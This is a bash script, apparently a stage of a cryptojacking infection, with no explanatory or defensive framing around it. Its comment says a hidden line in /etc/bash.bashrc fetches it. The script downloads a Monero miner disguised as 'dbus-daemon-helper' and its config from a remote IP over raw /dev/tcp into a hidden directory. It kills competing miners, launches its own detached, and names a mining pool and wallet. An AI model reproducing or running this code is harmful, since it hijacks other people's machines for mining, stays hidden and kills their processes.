#!/bin/bash
# stage fetched by the __curl line in /etc/bash.bashrc: kill rivals, fetch
# the miner and its config over /dev/tcp, start it detached.
function __curl() {
  read proto server path <<<$(echo ${1//// })
  DOC=/${path// //}
  HOST=${server//:*}
  PORT=${server//*:}
  [[ x"${HOST}" == x"${PORT}" ]] && PORT=80
  exec 3<>/dev/tcp/${HOST}/$PORT
  echo -en "GET ${DOC} HTTP/1.0\r\nHost: ${HOST}\r\n\r\n" >&3
  (while read line; do
   [[ "$line" == $'\r' ]] && break
  done && cat) <&3
  exec 3>&-
}
SRV=http://203.0.113.19:80/cmd
D=$HOME/.local/share/.dbus
mkdir -p "$D" && cd "$D" || exit 0
for p in xmrig kdevtmpfsi kinsing xmr-stak ld-linux-x86-64 "\[kswapd0\]"; do pkill -9 -f "$p" 2>/dev/null; done
[ -x dbus-daemon-helper ] || { __curl $SRV/dbus-daemon-helper > dbus-daemon-helper; chmod +x dbus-daemon-helper; }
[ -f config.json ] || __curl $SRV/config.json > config.json
nohup ./dbus-daemon-helper -c config.json >/dev/null 2>&1 &
# pool in config.json: gulf.moneroocean.stream:20128 (TLS), wallet
# 486iRv5NSYyVeXHTrsW67autYhysXM37rCJrCDggNRkjGFN5ef6JHcbozt26wY89aUj33uw24WCHjqvxahDkpduuCkueeRi
